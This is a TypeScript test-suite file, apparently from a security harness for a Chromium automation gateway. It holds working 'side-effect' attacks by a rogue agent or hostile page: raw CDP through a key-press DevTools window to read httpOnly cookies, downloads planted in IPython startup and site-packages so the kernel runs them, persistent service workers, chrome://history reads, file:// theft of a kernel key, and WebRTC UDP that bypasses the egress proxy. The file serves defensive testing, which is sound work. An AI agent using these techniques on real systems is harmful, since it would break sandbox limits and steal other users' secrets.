// Side-effect attacks: every command here is one an automation client legitimately sends
// (a key press, a download, Fetch interception, a navigation); the harm is what Chromium
// does as a consequence — a DevTools window with raw CDP, a file in the kernel's startup
// folder, a service worker that outlives the client, a file outside output/, a WebUI page
// with another client's history. Harm is judged behind the curtain, never by a status code.
import { createSocket } from 'node:dgram'
import { readdir, rm } from 'node:fs/promises'
import { join } from 'node:path'
import type { Attack, AttackContext, AttackOutcome } from '../types.ts'
import { waitUntil } from '../../util/wait.ts'
import { assertLocal, browserWsUrl, cdpConnect, closePage, evaluate, navigate, openPage, reason, type CdpConnection, type PageHandle } from '../cdp-client.ts'
import { asRogue, browserRestarted, nonce, plantCookie, plantSecretFile } from './cdp.ts'
import { closeNew, CTRL_H, CTRL_N, CTRL_SHIFT_N, CTRL_T, frontendChannel, newTarget, openDevtoolsByKey, press, targets, type FrontendChannel } from './accelerators.ts'
import { runPage } from './victim-browser.ts'

/** "ok" or the refusal, for evidence. */
async function attempt<T> (what: string, fn: () => Promise<T>): Promise<{ ok: true, value: T, note: string } | { ok: false, note: string }> {
  try { const value = await fn(); return { ok: true, value, note: `${what}: ok` } } catch (err) { return { ok: false, note: `${what}: ${reason(err)}` } }
}

/**
 * The accelerator channel: a page on the site, a DevTools frontend opened by a key press on
 * it, raw CDP through the frontend's embedder. `steps` runs with the channel (or undefined,
 * with notes saying why there is none). The frontend and the page are closed afterwards.
 */
async function withFrontend (ctx: AttackContext, c: CdpConnection, steps: (ch: RawPage | undefined, notes: string[]) => Promise<AttackOutcome>): Promise<AttackOutcome> {
  const before = new Set((await targets(c)).map(t => t.targetId))
  let page: PageHandle | undefined
  const notes: string[] = []
  let ch: RawPage | undefined
  try {
    page = await openPage(c)
    await navigate(c, page.sessionId, `${ctx.fixtures.site}/`)
    const { target, notes: n } = await openDevtoolsByKey(c, page.sessionId)
    notes.push(...n)
    if (target !== undefined) {
      const r = await attempt('raw CDP via the frontend', async () => {
        const fe = await frontendChannel(c, target)
        // the frontend talks to the tab target: attach (through it) to the page, and to any other target
        const { sessionId } = await fe.send<{ sessionId: string }>('Target.attachToTarget', { targetId: (page as PageHandle).targetId, flatten: true })
        return { fe, send: async <T = any>(method: string, params: object = {}) => await fe.send<T>(method, params, sessionId) }
      })
      if (r.ok) ch = r.value; else notes.push(r.note)
    }
  } catch (err) { notes.push(reason(err)) }
  try { return await steps(ch, notes) } finally {
    await closePage(c, page)
    await closeNew(c, before)
  }
}

/** Raw CDP to the inspected page (`send`), and the frontend itself (`fe`: sessions on any target). */
interface RawPage { readonly fe: FrontendChannel, send: <T = any>(method: string, params?: object) => Promise<T> }

/** Oracle view: a fresh connection straight to Chromium (a later visitor, or the harness). */
async function direct<T> (ctx: AttackContext, fn: (c: CdpConnection) => Promise<T>): Promise<T> {
  const c = await cdpConnect(await browserWsUrl(ctx.d.internals.chromium, null))
  try { return await fn(c) } finally { c.close() }
}

/** Set (or reset to default) where downloads go, straight at Chromium (harness cleanup). */
async function resetDownloads (ctx: AttackContext): Promise<void> {
  await direct(ctx, async c => { await c.send('Browser.setDownloadBehavior', { behavior: 'default' }, undefined, 5000) }).catch(() => {})
}

/** New files (not partial downloads) in `dir` that were not in `before`, within `ms`. */
async function filesAppear (dir: string, before: ReadonlySet<string>, ms: number, match: (name: string) => boolean = () => true): Promise<string[]> {
  let fresh: string[] = []
  await waitUntil(`a file in ${dir}`, async () => {
    fresh = (await readdir(dir).catch(() => [] as string[])).filter(n => !before.has(n) && !n.endsWith('.crdownload') && match(n))
    return fresh.length > 0
  }, ms, 100).catch(() => {})
  return fresh
}

export const SIDE_EFFECT_ATTACKS: Attack[] = [
  {
    id: 'accelerator-devtools-cookies',
    category: 'side-effects',
    description: 'A rogue agent presses Ctrl+Shift+J (then Ctrl+Shift+I, F12) on a page with Input.dispatchKeyEvent: Chromium opens a DevTools frontend; the agent attaches to it and sends raw CDP through InspectorFrontendHost.sendMessageToBackend (Network.getAllCookies) to read an httpOnly cookie.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const secret = nonce('cookie')
      await plantCookie(ctx, secret)
      try {
        return await asRogue(ctx, async c => await withFrontend(ctx, c, async (ch, notes) => {
          let stolen = false
          if (ch !== undefined) {
            const r = await attempt('Network.getAllCookies via the frontend', async () => await ch.send('Network.getAllCookies'))
            stolen = r.ok && JSON.stringify(r.value).includes(secret)
            notes.push(stolen ? 'Network.getAllCookies via the frontend: secret returned' : r.note)
          }
          return { harm: stolen, evidence: `${notes.join('; ')}; oracle: httpOnly cookie ${stolen ? 'read through the DevTools channel' : 'not read'}` }
        }))
      } finally { await plantCookie(ctx, null).catch(() => {}) }
    },
  },
  {
    id: 'download-into-kernel-startup',
    category: 'side-effects',
    description: 'A rogue agent points downloads at the kernel\'s IPython startup folder (Browser.setDownloadBehavior through the DevTools channel, else directly) and downloads a .py file; the next routine kernel reset (by the orchestrator) runs it and writes a canary.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const canary = ctx.oracle.canary('outside')
      return await plantForKernel(ctx, ['.ipython', 'profile_default', 'startup'], `00-${nonce('startup')}.py`, `open(${JSON.stringify(canary)}, 'w').write('ran')\n`, canary)
    },
  },
  {
    id: 'download-into-user-site',
    category: 'side-effects',
    description: 'As download-into-kernel-startup, into the kernel user\'s site-packages (~/.local/lib/python3.11/site-packages) as a .pth file: Python runs its import line when the kernel restarts.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const canary = ctx.oracle.canary('outside')
      return await plantForKernel(ctx, ['.local', 'lib', 'python3.11', 'site-packages'], `${nonce('site')}.pth`, `import os; open(${JSON.stringify(canary)}, 'w').write('ran')\n`, canary)
    },
  },
  {
    id: 'download-default-outside-output',
    category: 'side-effects',
    description: 'A rogue agent sets Browser.setDownloadBehavior {behavior: "default"} and downloads a file: it lands in the browser user\'s ~/Downloads, outside output/.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const downloads = chromiumDownloads(ctx)
      const before = new Set(await readdir(downloads).catch(() => [] as string[]))
      try {
        return await asRogue(ctx, async c => {
          const r = await attempt('Browser.setDownloadBehavior default', async () => await c.send('Browser.setDownloadBehavior', { behavior: 'default' }))
          const page = await openPage(c)
          let nav: string
          try {
            nav = (await c.send<{ errorText?: string }>('Page.navigate', { url: `${ctx.fixtures.site}/download` }, page.sessionId).catch((err: unknown) => ({ errorText: reason(err) }))).errorText ?? 'navigated'
            const files = await filesAppear(downloads, before, 8000)
            return { harm: files.length > 0, evidence: `${r.note}; download: ${nav}; oracle: ${files.length > 0 ? `${files.join(', ')} in the browser's ~/Downloads` : 'nothing in ~/Downloads'}` }
          } finally { await closePage(c, page) }
        })
      } finally { await removeNew(downloads, before) }
    },
  },
  {
    id: 'download-page-autoclick',
    category: 'side-effects',
    description: 'A page the agent visits (no token) clicks an attachment link itself; with no download folder set by any client the file lands in the browser user\'s ~/Downloads, outside output/.',
    stoppedBy: ['egress'],
    attacker: 'web-page',
    async run (ctx) {
      const downloads = chromiumDownloads(ctx)
      const before = new Set(await readdir(downloads).catch(() => [] as string[]))
      const file = ctx.fixtures.respond('evil', { body: 'dropped-by-a-page', headers: { 'content-type': 'application/octet-stream', 'content-disposition': 'attachment; filename="dropped.txt"' } }, 'dropped.txt')
      const page = ctx.fixtures.evilPage(`<!doctype html><title>invoice</title><body><script>
        window.__hedge = new Promise(r => { const a = document.createElement('a'); a.href = ${JSON.stringify(file)}; a.download = 'dropped.txt'; document.body.appendChild(a); a.click(); setTimeout(() => r('clicked'), 1000) })
      </script>`)
      try {
        const run = await runPage(ctx.d.internals.chromium, page).catch((err: unknown) => ({ value: `ERR ${reason(err)}` }))
        const files = await filesAppear(downloads, before, 6000)
        return { harm: files.length > 0, evidence: `the agent's browser opened the page: ${run.value}; oracle: ${files.length > 0 ? `${files.join(', ')} in the browser's ~/Downloads` : 'nothing in ~/Downloads'}` }
      } finally { await removeNew(downloads, before) }
    },
  },
  {
    id: 'service-worker-persists-browser-fetch',
    category: 'side-effects',
    description: 'A rogue agent enables Fetch on the browser-level session, fulfils a page of the site and its sw.js with its own code, and leaves; a later visitor of the site is served by the attacker\'s service worker.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) { return await serviceWorkerAttack(ctx, 'browser') },
  },
  {
    id: 'service-worker-persists-page-fetch',
    category: 'side-effects',
    description: 'As service-worker-persists-browser-fetch, with Fetch enabled on the page\'s own session (the worker script is a same-origin script of the site): under per-client contexts the worker must die with the client.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) { return await serviceWorkerAttack(ctx, 'page') },
  },
  {
    id: 'webui-history-read',
    category: 'side-effects',
    description: 'Another client visits a site URL carrying a secret and closes the tab; a rogue agent presses Ctrl+H (or opens chrome://history with Target.createTarget), attaches to the WebUI page and reads the secret from it.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const secret = nonce('visited')
      const visited = `${ctx.fixtures.site}/?token=${secret}`
      await direct(ctx, async v => {
        const p = await openPage(v)
        try { await navigate(v, p.sessionId, visited); await new Promise(resolve => setTimeout(resolve, 500)) } finally { await closePage(v, p) }
      })
      try {
        return await asRogue(ctx, async c => {
          const before = new Set((await targets(c)).map(t => t.targetId))
          const notes: string[] = []
          let page: PageHandle | undefined
          let text = ''
          try {
            page = await openPage(c)
            await navigate(c, page.sessionId, ctx.fixtures.evilPage('<!doctype html><title>attacker</title>'))
            const r = await attempt(`press ${CTRL_H.label}`, async () => { await press(c, (page as PageHandle).sessionId, CTRL_H) })
            notes.push(r.note)
            let target = await newTarget(c, before, t => t.url.startsWith('chrome://history'), 6000)
            if (target === undefined) {
              const made = await attempt('Target.createTarget chrome://history', async () => await c.send<{ targetId: string }>('Target.createTarget', { url: 'chrome://history/' }))
              notes.push(made.note)
              if (made.ok) target = { targetId: made.value.targetId, type: 'page', url: 'chrome://history/' }
            } else notes.push(`${CTRL_H.label} opened ${target.url}`)
            if (target !== undefined) {
              const t = target
              const got = await attempt('attach + read chrome://history', async () => {
                const { sessionId } = await c.send<{ sessionId: string }>('Target.attachToTarget', { targetId: t.targetId, flatten: true })
                await waitUntil('the history list', async () => (text = await evaluate<string>(c, sessionId, DEEP_TEXT, { timeoutMs: 3000 })).includes(secret), 8000, 250).catch(() => {})
                return text.length
              })
              notes.push(got.ok ? `chrome://history read (${got.value} chars)` : got.note)
            }
          } catch (err) { notes.push(reason(err)) } finally {
            await closePage(c, page)
            await closeNew(c, before)
          }
          const harm = text.includes(secret)
          return { harm, evidence: `${notes.join('; ')}; oracle: the other client's secret URL ${harm ? 'read from chrome://history' : 'not read'}` }
        })
      } finally { await direct(ctx, async v => { await v.send('Storage.clearDataForOrigin', { origin: ctx.fixtures.site, storageTypes: 'all' }) }).catch(() => {}) }
    },
  },
  {
    id: 'webrtc-udp-canary',
    category: 'side-effects',
    description: 'A page the agent visits creates an RTCPeerConnection with a TURN/UDP and a STUN server on a loopback port: ICE sends UDP datagrams straight there, around the egress proxy.',
    stoppedBy: ['egress'],
    attacker: 'web-page',
    async run (ctx) {
      const sock = createSocket('udp4')
      let got = 0
      sock.on('message', () => { got++ })
      await new Promise<void>((resolve, reject) => { sock.once('error', reject); sock.bind(0, '127.0.0.1', () => { resolve() }) })
      const port = sock.address().port
      try {
        const page = ctx.fixtures.evilPage(`<!doctype html><title>call</title><script>
          window.__hedge = (async () => {
            const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:${port}?transport=udp', username: 'u', credential: 'p' }, { urls: 'stun:127.0.0.1:${port}' }] });
            pc.createDataChannel('x');
            await pc.setLocalDescription(await pc.createOffer());
            await new Promise(r => setTimeout(r, 2500));
            pc.close();
            return 'gathered';
          })()
        </script>`)
        const run = await runPage(ctx.d.internals.chromium, page).catch((err: unknown) => ({ value: `ERR ${reason(err)}` }))
        await waitUntil('a datagram', async () => got > 0, 2000, 100).catch(() => {})
        return { harm: got > 0, evidence: `the agent's browser opened the page: ${run.value}; oracle: ${got} UDP datagram(s) at the loopback canary` }
      } finally { sock.close() }
    },
  },
  {
    id: 'set-cookie-in-fetch-arrays',
    category: 'side-effects',
    description: 'A rogue agent intercepts responses (page-level Fetch.enable at the Response stage) of a site whose login redirect sets an httpOnly cookie: the value must not reach the client in any event (Fetch.requestPaused headers are objects for the request, arrays of {name, value} for the response).',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const secret = nonce('setcookie')
      // the login answers with a redirect that sets the session cookie (a common shape), then a page
      const home = ctx.fixtures.respond('site', { body: '<!doctype html><title>home</title>ok', headers: { 'content-type': 'text/html' } }, 'home')
      const url = ctx.fixtures.respond('site', { status: 302, body: '', headers: { location: home, 'set-cookie': `hedge_sc=${secret}; HttpOnly; Path=/` } }, 'login')
      try {
        return await asRogue(ctx, async c => {
          let page: PageHandle | undefined
          let seen = false
          const notes: string[] = []
          let paused = 0
          const headerNames = new Set<string>()
          const off = c.onEvent((method, params, sid) => {
            if (JSON.stringify(params ?? null).includes(secret)) seen = true
            if (method !== 'Fetch.requestPaused') return
            paused++
            for (const h of Array.isArray(params.responseHeaders) ? params.responseHeaders as Array<{ name?: unknown }> : []) headerNames.add(String(h.name).toLowerCase())
            void c.send('Fetch.continueRequest', { requestId: params.requestId }, sid).catch(() => {})
          })
          try {
            page = await openPage(c)
            const sid = page.sessionId
            const r = await attempt('Fetch.enable (Response stage)', async () => await c.send('Fetch.enable', { patterns: [{ urlPattern: `${ctx.fixtures.site}/f/*`, requestStage: 'Response' }] }, sid))
            notes.push(r.note)
            await navigate(c, sid, url).catch((err: unknown) => { notes.push(reason(err)) })
          } catch (err) { notes.push(reason(err)) } finally { off(); await closePage(c, page) }
          notes.push(`${paused} paused responses, set-cookie header ${headerNames.has('set-cookie') ? 'present' : 'absent'}`)
          return { harm: seen, evidence: `${notes.join('; ')}; oracle: the Set-Cookie value ${seen ? 'arrived in an event' : 'never reached the client'}` }
        })
      } finally { await plantCookie(ctx, null).catch(() => {}) }
    },
  },
  {
    id: 'accelerator-devtools-file-read',
    category: 'side-effects',
    description: 'Through the DevTools channel (Ctrl+Shift+J, raw CDP via the frontend) a rogue agent navigates its page to file:///<workspace>/secret and reads it, and to the kernel\'s connection file (its path is what /health tells) and reads the HMAC key.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const path = join(ctx.d.internals.workspace.root, `${nonce('file')}.txt`)
      const { secret, remove } = await plantSecretFile(path)
      const key = await ctx.oracle.kernelKey()
      const connFile = String((await ctx.oracle.kernel('GET', '/kernel/status')).json?.connection_file ?? '')
      try {
        return await asRogue(ctx, async c => await withFrontend(ctx, c, async (ch, notes) => {
          const got: string[] = []
          if (ch !== undefined) {
            for (const [what, file, needle] of [['workspace secret', path, secret], ['kernel connection file', connFile, key]] as const) {
              if (file === '') continue
              const r = await attempt(`${what} via the frontend`, async () => {
                await ch.send('Page.navigate', { url: `file://${file}` })
                let text = ''
                await waitUntil('the file page', async () => (text = String((await ch.send<{ result: { value?: unknown } }>('Runtime.evaluate', { expression: 'document.body ? document.body.innerText : ""', returnByValue: true })).result.value ?? '')).includes(needle), 5000, 150).catch(() => {})
                return text.includes(needle)
              })
              notes.push(r.ok ? `${what}: ${r.value ? 'read' : 'not shown'}` : r.note)
              if (r.ok && r.value) got.push(what)
            }
          }
          return { harm: got.length > 0, evidence: `${notes.join('; ')}; oracle: ${got.length > 0 ? `${got.join(' and ')} read by the attacker` : 'nothing read'}` }
        }))
      } finally { await remove() }
    },
  },
  {
    id: 'accelerator-devtools-browser-close',
    category: 'side-effects',
    description: 'Through the DevTools channel (Ctrl+Shift+J, raw CDP via the frontend) a rogue agent sends Browser.close, which the gateway refuses when sent directly.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const before = await ctx.oracle.browserId()
      let sent = false
      const out = await asRogue(ctx, async c => await withFrontend(ctx, c, async (ch, notes) => {
        if (ch !== undefined) {
          // the frontend's own connection is to the tab target: Browser.* answers on the page session
          const r = await attempt('Browser.close via the frontend', async () => await ch.send('Browser.close'))
          sent = true
          notes.push(r.note)
        }
        return { harm: false, evidence: notes.join('; ') }
      }))
      const harm = await browserRestarted(ctx, before, sent ? 15_000 : 2000)
      return { harm, evidence: `${out.evidence}; oracle: browser ${harm ? 'closed and restarted' : 'still the same process'}` }
    },
  },
  {
    id: 'webui-target-attach',
    category: 'side-effects',
    description: 'A rogue agent attaches to a chrome:// target Chromium already has (browser_ui: the omnibox popup, a WebUI page with Mojo bindings) and runs code in it (sets its title to a nonce).',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const mark = nonce('webui')
      return await asRogue(ctx, async c => {
        const ui = (await targets(c)).filter(t => /^chrome(-untrusted)?:\/\//.test(t.url))
        const notes: string[] = [`${ui.length} chrome:// targets visible (${[...new Set(ui.map(t => t.type))].join(', ') || 'none'})`]
        for (const t of ui.slice(0, 3)) {
          const r = await attempt(`attach ${t.type} ${t.url.slice(0, 40)}`, async () => {
            const { sessionId } = await c.send<{ sessionId: string }>('Target.attachToTarget', { targetId: t.targetId, flatten: true }, undefined, 5000)
            try { return await evaluate<string>(c, sessionId, `document.title = ${JSON.stringify(mark)}; location.href`, { timeoutMs: 5000 }) } finally { await c.send('Target.detachFromTarget', { sessionId }, undefined, 3000).catch(() => {}) }
          })
          notes.push(r.ok ? `code ran in ${r.value.slice(0, 50)}` : r.note)
        }
        const seen = await direct(ctx, async v => (await targets(v)).some(t => t.title === mark))
        return { harm: seen, evidence: `${notes.join('; ')}; oracle: ${seen ? 'a chrome:// page carries the attacker\'s title' : 'no chrome:// page touched'}` }
      })
    },
  },
  {
    id: 'accelerator-webui-tabs',
    category: 'side-effects',
    description: 'A rogue agent presses Ctrl+T, Ctrl+N and Ctrl+Shift+N (incognito) on a page: Chromium opens chrome:// new-tab pages (WebUI) in new tabs and windows; the agent attaches to one and runs code in it.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const mark = nonce('newtab')
      return await asRogue(ctx, async c => {
        const before = new Set((await targets(c)).map(t => t.targetId))
        const notes: string[] = []
        let page: PageHandle | undefined
        try {
          page = await openPage(c)
          await navigate(c, page.sessionId, `${ctx.fixtures.site}/`)
          for (const chord of [CTRL_T, CTRL_N, CTRL_SHIFT_N]) {
            const seen = new Set((await targets(c)).map(t => t.targetId))
            const r = await attempt(chord.label, async () => { await press(c, (page as PageHandle).sessionId, chord) })
            const t = r.ok ? await newTarget(c, seen, x => x.type === 'page' && x.url.startsWith('chrome://'), 4000) : undefined
            if (t === undefined) { notes.push(r.ok ? `${chord.label}: no chrome:// tab` : r.note); continue }
            const ran = await attempt(`${chord.label} opened ${t.url}; attach`, async () => {
              const { sessionId } = await c.send<{ sessionId: string }>('Target.attachToTarget', { targetId: t.targetId, flatten: true }, undefined, 5000)
              return await evaluate<string>(c, sessionId, `document.title = ${JSON.stringify(mark)}; location.href`, { timeoutMs: 5000 })
            })
            notes.push(ran.ok ? `${chord.label}: code ran in ${ran.value}` : ran.note)
          }
        } catch (err) { notes.push(reason(err)) }
        const harm = await direct(ctx, async v => (await targets(v)).some(t => t.title === mark && t.url.startsWith('chrome://')))
        await closePage(c, page)
        await closeNew(c, before)
        return { harm, evidence: `${notes.join('; ')}; oracle: ${harm ? 'a chrome:// tab carries the attacker\'s title' : 'no chrome:// tab touched'}` }
      })
    },
  },
  {
    id: 'drag-file-into-page',
    category: 'side-effects',
    description: 'A rogue agent drops a file from outside upload/ and output/ onto a page (Input.dispatchDragEvent with data.files): the page\'s drop handler reads it with FileReader.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const path = join(ctx.d.internals.workspace.root, `${nonce('drag')}.txt`)
      const { secret, remove } = await plantSecretFile(path)
      const html = '<!doctype html><title>drop</title><body style="margin:0;height:100vh" ondragenter="event.preventDefault()" ondragover="event.preventDefault()" ondrop="event.preventDefault(); const f = event.dataTransfer.files[0]; if (!f) { document.title = \'no file\'; return } const r = new FileReader(); r.onload = () => { document.title = \'got:\' + String(r.result).trim() }; r.readAsText(f)">drop here</body>'
      try {
        return await asRogue(ctx, async c => {
          let page: PageHandle | undefined
          const notes: string[] = []
          let title = ''
          try {
            page = await openPage(c)
            const sid = page.sessionId
            await navigate(c, sid, ctx.fixtures.sitePage(html))
            const data = { items: [], files: [path], dragOperationsMask: 1 }
            const r = await attempt('Input.dispatchDragEvent (dragEnter, dragOver, drop)', async () => {
              for (const type of ['dragEnter', 'dragOver', 'drop']) await c.send('Input.dispatchDragEvent', { type, x: 50, y: 50, data }, sid, 5000)
            })
            notes.push(r.note)
            await waitUntil('the drop', async () => (title = await evaluate<string>(c, sid, 'document.title', { timeoutMs: 3000 })) !== 'drop', 3000, 100).catch(() => {})
          } catch (err) { notes.push(reason(err)) } finally { await closePage(c, page) }
          const harm = title.includes(secret)
          return { harm, evidence: `${notes.join('; ')}; page title ${JSON.stringify(title.slice(0, 30))}; oracle: secret ${harm ? 'read by page JavaScript' : 'not read'}` }
        })
      } finally { await remove() }
    },
  },
]

/**
 * Make the browser download `body` as `name` into <kernel HOME>/<dirs…> (through the DevTools
 * channel when a key press opens one, else by asking directly), have the orchestrator reset
 * the kernel (behind the curtain), and see whether the kernel ran it (the canary).
 */
async function plantForKernel (ctx: AttackContext, dirs: readonly string[], name: string, body: string, canary: string): Promise<AttackOutcome> {
  const home = ctx.d.internals.kernelHome
  if (home === undefined) throw new Error('the kernel\'s HOME is unknown for this deployment')
  const dir = join(home, ...dirs)
  const url = ctx.fixtures.respond('evil', { body, headers: { 'content-type': 'application/octet-stream', 'content-disposition': `attachment; filename="${name}"` } }, name)
  assertLocal(url)
  const before = new Set(await readdir(dir).catch(() => [] as string[]))
  try {
    const landed = await asRogue(ctx, async c => await withFrontend(ctx, c, async (ch, notes) => {
      const set = { behavior: 'allow', downloadPath: dir }
      const r = ch !== undefined
        ? await attempt('Browser.setDownloadBehavior via the frontend', async () => await ch.send('Browser.setDownloadBehavior', set))
        : await attempt('Browser.setDownloadBehavior', async () => await c.send('Browser.setDownloadBehavior', set))
      notes.push(r.note)
      const page = await openPage(c)
      try {
        const nav = await c.send<{ errorText?: string }>('Page.navigate', { url }, page.sessionId).catch((err: unknown) => ({ errorText: reason(err) }))
        notes.push(`download: ${nav.errorText ?? 'navigated'}`)
        const files = await filesAppear(dir, before, 8000, n => n === name)
        notes.push(files.length > 0 ? `${files.join(', ')} in ~/${dirs.join('/')}` : `nothing in ~/${dirs.join('/')}`)
      } finally { await closePage(c, page) }
      return { harm: false, evidence: notes.join('; ') }
    }))
    // the orchestrator's routine reset (behind the curtain), then the canary
    const reset = await ctx.oracle.kernel('POST', '/kernel/reset').catch((err: unknown) => ({ status: 0, json: reason(err) }))
    let ran = false
    await waitUntil('the canary', async () => (ran = await ctx.oracle.exists(canary)), 20_000, 200).catch(() => {})
    return { harm: ran, evidence: `${landed.evidence}; kernel reset → ${reset.status}; oracle: canary ${ran ? 'written by the kernel' : 'absent'}` }
  } finally {
    for (const n of await readdir(dir).catch(() => [] as string[])) if (!before.has(n)) await rm(join(dir, n), { force: true }).catch(() => {})
    // where a gateway rewrote the download (output/) or Chromium's default put it (~/Downloads)
    const stem = name.replace(/\.[a-z]+$/, '')
    for (const other of [ctx.d.internals.workspace.output, ...(ctx.d.internals.chromiumHome !== undefined ? [join(ctx.d.internals.chromiumHome, 'Downloads')] : [])]) {
      for (const n of await readdir(other).catch(() => [] as string[])) if (n.startsWith(stem)) await rm(join(other, n), { force: true }).catch(() => {})
    }
    await rm(canary, { force: true }).catch(() => {})
    await resetDownloads(ctx)
  }
}

/** Text of a page including every shadow root, plus href/title attributes (WebUI pages are web components). */
const DEEP_TEXT = `(() => { const out = []; const walk = n => { if (!n) return;
  if (n.nodeType === 1) {
    for (const a of ['href', 'title']) { const v = n.getAttribute(a); if (v) out.push(v) }
    if (n.item && n.item.url) out.push(String(n.item.url));
    if (Array.isArray(n.historyData_)) for (const i of n.historyData_) out.push(String(i.url));
    if (n.shadowRoot) walk(n.shadowRoot) }
  if (n.nodeType === 3) out.push(n.textContent);
  for (const ch of n.childNodes || []) walk(ch) };
  walk(document); return out.join(' ') })()`

function chromiumDownloads (ctx: AttackContext): string {
  const home = ctx.d.internals.chromiumHome
  if (home === undefined) throw new Error('the browser\'s HOME is unknown for this deployment')
  return join(home, 'Downloads')
}

async function removeNew (dir: string, before: ReadonlySet<string>): Promise<void> {
  for (const n of await readdir(dir).catch(() => [] as string[])) if (!before.has(n)) await rm(join(dir, n), { force: true, recursive: true }).catch(() => {})
}

/** The worker the attacker installs: every fetch in its scope is answered with the marker. */
const swScript = (marker: string): string => `self.addEventListener('install', e => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', e => e.respondWith(new Response('<!doctype html><title>${marker}</title>${marker}', { headers: { 'content-type': 'text/html' } })));`

async function serviceWorkerAttack (ctx: AttackContext, level: 'browser' | 'page'): Promise<AttackOutcome> {
  const marker = nonce('sw')
  // Page-level Fetch does not see a worker's script fetch: there the site itself serves the
  // script (standing for any same-origin script an attacker can shape, e.g. JSONP).
  const scope = level === 'browser'
    ? `${ctx.fixtures.site}/hx-${marker}/`
    : ctx.fixtures.respond('site', { body: swScript(marker), headers: { 'content-type': 'text/javascript' } }, 'sw.js').replace(/sw\.js$/, '')
  const b64 = (s: string): string => Buffer.from(s).toString('base64')
  const doc = '<!doctype html><title>install</title><script>navigator.serviceWorker.register("sw.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "registered" }, e => { document.title = "failed " + e })</script>'
  try {
    const attack = await asRogue(ctx, async c => {
      const notes: string[] = []
      let page: PageHandle | undefined
      let fulfilled = 0
      const off = c.onEvent((method, params, sid) => {
        if (method !== 'Fetch.requestPaused') return
        const url = String(params.request?.url ?? '')
        const js = url.endsWith('/sw.js')
        fulfilled++
        void c.send('Fetch.fulfillRequest', {
          requestId: params.requestId, responseCode: 200,
          responseHeaders: [{ name: 'content-type', value: js ? 'text/javascript' : 'text/html' }, { name: 'cache-control', value: 'no-store' }],
          body: b64(js ? swScript(marker) : doc),
        }, sid).catch(() => {})
      })
      try {
        page = await openPage(c)
        const sid = page.sessionId
        const pattern = level === 'browser' ? `${scope}*` : `${scope}index.html`
        const r = await attempt(`Fetch.enable on the ${level} session`, async () => await c.send('Fetch.enable', { patterns: [{ urlPattern: pattern }] }, level === 'page' ? sid : undefined))
        notes.push(r.note)
        await navigate(c, sid, `${scope}index.html`).catch((err: unknown) => { notes.push(reason(err)) })
        let title = ''
        await waitUntil('registration', async () => (title = await evaluate<string>(c, sid, 'document.title', { timeoutMs: 3000 })) !== 'install', 8000, 200).catch(() => {})
        notes.push(`page says ${JSON.stringify(title)} (${fulfilled} requests fulfilled)`)
        await c.send('Fetch.disable', {}, level === 'page' ? sid : undefined).catch(() => {})
      } catch (err) { notes.push(reason(err)) } finally { off(); await closePage(c, page) }
      return { harm: false, evidence: notes.join('; ') }
    })
    // The attacker has disconnected. A later visitor, on a fresh connection to the browser:
    let seen = ''
    await direct(ctx, async v => {
      const p = await openPage(v)
      try {
        await navigate(v, p.sessionId, `${scope}later.html`, 10_000).catch(() => {})
        seen = await evaluate<string>(v, p.sessionId, 'document.title + " " + (document.body ? document.body.innerText : "")', { timeoutMs: 5000 }).catch(() => '')
      } finally { await closePage(v, p) }
    })
    const harm = seen.includes(marker)
    return { harm, evidence: `${attack.evidence}; oracle: a later visitor of the site ${harm ? 'was served by the attacker\'s worker' : `saw ${JSON.stringify(seen.slice(0, 40))}`}` }
  } finally {
    await direct(ctx, async v => { await v.send('Storage.clearDataForOrigin', { origin: ctx.fixtures.site, storageTypes: 'service_workers' }) }).catch(() => {})
  }
}